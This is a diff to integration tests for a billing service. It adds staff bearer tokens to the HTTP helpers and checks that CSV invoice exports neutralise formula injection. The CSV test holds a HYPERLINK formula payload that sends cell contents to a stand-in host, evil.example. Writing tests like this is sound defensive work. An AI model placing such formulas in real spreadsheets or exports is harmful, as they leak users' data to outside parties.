@@ -32,7 +32,8 @@ import membership.entrypoints.service
 import scheduling.entrypoints.service
 from shared.fields import unbounded_numbers
 from shared.http import JsonHttp
-from tests.conftest import billing_run, eventually, http_json
+from tests import tokens
+from tests.conftest import billing_run, eventually, http_json, http_text
 from tests.integration.billing_upstream import Upstream
 
 ENTRYPOINT_MODULES = (membership.entrypoints.service, catalogue.entrypoints.service,
@@ -52,7 +53,8 @@ SMALL_LIMIT = 2048
 
 def send(url: str, body: bytes, *, method: str = "POST", headers: dict | None = None) -> tuple[int, dict, dict]:
     request = urllib.request.Request(url, data=body, method=method,
-                                     headers={"Content-Type": "application/json", **(headers or {})})
+                                     headers={"Content-Type": "application/json",
+                                              **tokens.bearer(tokens.trust_staff()), **(headers or {})})
     try:
         with urllib.request.urlopen(request, timeout=20) as response:
             return response.status, json.loads(response.read() or b"null"), dict(response.headers)
@@ -66,7 +68,8 @@ def send_chunked(url: str, body: bytes) -> tuple[int, dict]:
     connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=20)
     try:
         connection.request("POST", parts.path, body=(body[i:i + 512] for i in range(0, len(body), 512)),
-                           headers={"Content-Type": "application/json"}, encode_chunked=True)
+                           headers={"Content-Type": "application/json", **tokens.bearer(tokens.trust_staff())},
+                           encode_chunked=True)
         response = connection.getresponse()
         return response.status, json.loads(response.read() or b"null")
     finally:
@@ -230,8 +233,7 @@ class TestCsvExports:
         stack = stack_factory(sqlite_databases).start("billing")
         formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
         invoiced(stack, amqp_uri, "110032", formula)
-        with urllib.request.urlopen(f"{stack.url('billing')}/exports/invoices.csv", timeout=20) as response:
-            rows = list(csv.DictReader(io.StringIO(response.read().decode())))
+        rows = list(csv.DictReader(io.StringIO(http_text(f"{stack.url('billing')}/exports/invoices.csv", timeout=20))))
         assert [row["payer_name"] for row in rows] == ["'" + formula]
         assert rows[0]["net_pence"] == "100000"  # numbers stay numbers
         assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
